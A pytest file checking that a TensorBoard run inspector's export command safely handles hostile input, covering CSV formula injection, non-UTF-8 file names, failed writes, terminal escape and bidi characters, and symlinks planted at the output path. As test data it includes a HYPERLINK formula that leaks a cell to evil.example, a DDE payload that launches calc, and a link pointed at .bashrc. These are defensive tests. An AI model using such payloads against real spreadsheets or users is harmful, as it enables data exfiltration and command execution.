"""Hostile input reaching the exports: formula cells in CSV, file names that are not UTF-8, failures mid-write."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from pimm_inspect.cli.main import cli


def tb_run(folder: Path, tags: list[str], file_name: bytes | None = None) -> Path:
    """A TensorBoard run written by TensorBoard's own writer: each tag at steps 1-3 (values 1-step: 0, -1, -2);
    ``file_name`` renames the event file (raw bytes: any name the filesystem takes)."""
    from tensorboard.compat.proto import event_pb2, summary_pb2
    from tensorboard.summary.writer.event_file_writer import EventFileWriter

    folder.mkdir(parents=True)
    writer = EventFileWriter(str(folder), max_queue_size=1000, flush_secs=3600)
    for step in (1, 2, 3):
        values = [summary_pb2.Summary.Value(tag=tag, simple_value=1.0 - step) for tag in tags]
        writer.add_event(event_pb2.Event(wall_time=1784293210.0 + step, step=step,
                                         summary=summary_pb2.Summary(value=values)))
    writer.close()
    if file_name is not None:
        (written,) = folder.glob("events.out.tfevents.*")
        os.rename(os.fsencode(written), os.fsencode(folder) + b"/" + file_name)
    return folder


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
PLAIN = ["train/loss", "-0.5", "+1e-3"]


def test_csv_cell_rule() -> None:
    from pimm_inspect.report.export import csv_cell

    for formula in FORMULAS:
        assert csv_cell(formula) == "'" + formula
    for plain in PLAIN + ["", "a=b", "-", "'quoted"]:
        assert csv_cell(plain) == (plain if plain != "-" else "'-")


def test_csv_export_neutralises_formula_cells_and_json_parquet_keep_the_value(tmp_path: Path) -> None:
    run = tb_run(tmp_path / "run", FORMULAS + PLAIN)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", str(run), "-o", str(out)])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    tags = {row["tag"] for row in rows}
    assert tags == {"'" + f for f in FORMULAS} | set(PLAIN)
    assert {row["value"] for row in rows} == {"0.0", "-1.0", "-2.0"}  # numbers stay numbers, negatives unquoted
    assert all(not row["source"].startswith(tuple("=+-@")) for row in rows)

    out_json = tmp_path / "out.json"
    assert CliRunner().invoke(cli, ["export", str(run), "--format", "json", "-o", str(out_json)]).exit_code == 0
    assert {r["tag"] for r in json.loads(out_json.read_text(encoding="utf-8"))} == set(FORMULAS + PLAIN)
    pytest.importorskip("pyarrow")
    import pandas as pd

    out_pq = tmp_path / "out.parquet"
    assert CliRunner().invoke(cli, ["export", str(run), "--format", "parquet", "-o", str(out_pq)]).exit_code == 0
    assert set(pd.read_parquet(out_pq)["tag"]) == set(FORMULAS + PLAIN)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_export_of_an_event_file_whose_name_is_not_utf8(fmt: str, tmp_path: Path) -> None:
    """The name's bytes ``ff fe`` are written by the one name escape (``\\xff\\xfe``), never a crash."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    run = tb_run(tmp_path / "run", ["train/loss"], file_name=b"events.out.tfevents.1784293210.host\xff\xfe")
    out = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(cli, ["export", str(run), "--format", fmt, "-o", str(out)])
    assert result.exit_code == 0, (result.output, result.exception)
    want = "events.out.tfevents.1784293210.host\\xff\\xfe"
    if fmt == "json":
        sources = {r["source"] for r in json.loads(out.read_text(encoding="utf-8"))}
    elif fmt == "csv":
        sources = {r["source"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    else:
        import pandas as pd

        sources = set(pd.read_parquet(out)["source"])
    assert sources == {want}


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_a_failed_export_leaves_the_previous_file_and_no_partial_one(fmt: str, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """The writer fails after part of the table: the target keeps its old content and no temporary file stays."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    run = tb_run(tmp_path / "run", ["a", "b"])
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / f"table.{fmt}"
    out.write_text("previous export\n")

    import pimm_inspect.analysis.scalar_rows as scalar_rows
    import pimm_inspect.report.export as export

    class Boom(RuntimeError):
        pass

    if fmt == "json":
        real = export.json_records

        def failing(rows):  # the first record is written, then the disk "fails"
            for i, record in enumerate(real(rows)):
                if i == 2:
                    raise Boom()
                yield record

        monkeypatch.setattr(export, "json_records", failing)
        monkeypatch.setattr(export, "SLICE_ROWS", 1)
    else:
        import pandas as pd

        if fmt == "csv":
            def failing_write(self, *args, **kwargs):  # a text the file cannot take: the write fails midway
                return "tag,step\nfine,1\n\ud800,2\n"

            monkeypatch.setattr(pd.DataFrame, "to_csv", failing_write)
        else:
            def failing_write(self, target, *args, **kwargs):  # part of the file is written, then a failure
                if isinstance(target, (str, os.PathLike)):
                    with open(target, "wb") as fh:
                        fh.write(b"PAR1 partial")
                else:
                    target.write(b"PAR1 partial")
                raise Boom()

            monkeypatch.setattr(pd.DataFrame, "to_parquet", failing_write)
    del scalar_rows
    result = CliRunner().invoke(cli, ["export", str(run), "--format", fmt, "-o", str(out)])
    assert isinstance(result.exception, (Boom, UnicodeEncodeError))
    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in out_dir.iterdir()) == [out.name]


def test_a_formula_in_an_event_file_name_is_neutralised_in_the_source_cell(tmp_path: Path) -> None:
    name = b"=HYPERLINK(\"http:x\")tfevents.1784293210.host"  # any name holding `tfevents` is an event file
    run = tb_run(tmp_path / "run", ["loss"], file_name=name)
    out = tmp_path / "out.csv"
    assert CliRunner().invoke(cli, ["export", str(run), "-o", str(out)]).exit_code == 0
    with open(out, newline="", encoding="utf-8") as fh:
        sources = {row["source"] for row in csv.DictReader(fh)}
    assert sources == {"'" + name.decode()}
    out_json = tmp_path / "out.json"
    assert CliRunner().invoke(cli, ["export", str(run), "--format", "json", "-o", str(out_json)]).exit_code == 0
    assert {r["source"] for r in json.loads(out_json.read_text(encoding="utf-8"))} == {name.decode()}


def test_the_python_api_dataframe_of_a_run_with_a_non_utf8_event_file_name(tmp_path: Path) -> None:
    """``Run.scalars()`` (pandas with Arrow strings) crashed on the name; its ``source`` is the one name escape."""
    import pimm_inspect

    run = tb_run(tmp_path / "run", ["loss"], file_name=b"events.out.tfevents.1784293210.host\xff\xfe")
    frame = pimm_inspect.load_run(run).scalars()
    assert set(frame["source"]) == {"events.out.tfevents.1784293210.host\\xff\\xfe"}
    assert len(frame) == 3


def test_an_export_to_a_folder_that_does_not_exist_is_one_line_naming_the_file(tmp_path: Path) -> None:
    import subprocess
    import sys

    target = tmp_path / "missing" / "x.csv"
    repo = Path(__file__).resolve().parents[1]
    proc = subprocess.run([sys.executable, "-P", "-m", "pimm_inspect", "--no-cache", "export",
                           str(repo / "fixtures" / "runs" / "e2_clean"), "-o", str(target)], capture_output=True,
                          text=True, timeout=120, env=dict(os.environ, PYTHONPATH=str(repo)))
    assert proc.returncode == 1
    assert proc.stderr == f"pimm-inspect: {target}: No such file or directory\n"


def test_json_export_writes_c1_bidi_and_invisible_characters_as_escapes(tmp_path: Path) -> None:
    """`export --format json` (also `-o -` on a terminal) never writes a C1 control (0x9b is CSI to a terminal), a
    bidi override or an invisible character raw; the JSON value is still the exact tag."""
    tags = ["loss\x9b2J", "loss\u202eevil", "loss\u200bx"]
    run = tb_run(tmp_path / "run", tags)
    out = tmp_path / "out.json"
    assert CliRunner().invoke(cli, ["export", str(run), "--format", "json", "-o", str(out)]).exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert not any(c in text for c in ("\x9b", "\u202e", "\u200b"))
    assert "loss\\u009b2J" in text
    assert {r["tag"] for r in json.loads(text)} == set(tags)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_a_link_planted_at_the_output_path_is_replaced_not_written_through(fmt: str, tmp_path: Path) -> None:
    """A shared folder (/tmp, a team directory): someone plants `out.csv -> ~/.bashrc`; the export replaces the
    link with its file and never truncates or writes the link's target."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    run = tb_run(tmp_path / "run", ["loss"])
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    shared = tmp_path / "shared"
    shared.mkdir()
    out = shared / f"out.{fmt}"
    out.symlink_to(victim)
    result = CliRunner().invoke(cli, ["export", str(run), "--format", fmt, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "export PATH=/usr/bin\n"
    assert not out.is_symlink() and out.stat().st_size > 10
